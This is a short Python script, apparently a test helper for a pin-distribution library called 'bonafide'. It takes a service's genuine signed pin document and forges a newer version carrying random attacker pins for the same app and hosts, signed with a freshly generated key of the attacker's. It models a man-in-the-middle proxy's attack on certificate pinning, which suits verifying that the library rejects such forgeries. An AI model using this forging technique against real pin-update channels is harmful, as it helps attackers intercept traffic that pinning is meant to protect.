"""Make a pin document of the one that the proxy saw: newer, with pins of the attacker's, right in all but its signer.

echo '<the service's own document>' | python forge_pins.py
"""

from __future__ import annotations

import base64
import json
import secrets
import sys
from datetime import UTC, datetime

from cryptography.hazmat.primitives.asymmetric import ec

from bonafide.codec import base64url
from bonafide.documents import PinsDocument, issue_pins
from bonafide.keys import ServiceKey


def forge(genuine: str) -> str:
    """Return the next version for the same app, hosts and time, under a service key of the attacker's."""
    told = json.loads(base64url.decode(genuine.strip().split(".")[1]))
    document = PinsDocument(
        version=told["version"] + 1,
        expires_at=datetime.fromtimestamp(told["exp"], UTC),
        pins={host: (_pin(), _pin()) for host in told["pins"]},
    )
    return issue_pins(document, app=told["app"], service_key=ServiceKey.of(ec.generate_private_key(ec.SECP256R1())))


def _pin() -> str:
    return base64.b64encode(secrets.token_bytes(32)).decode()


if __name__ == "__main__":
    sys.stdout.write(forge(sys.stdin.read()))
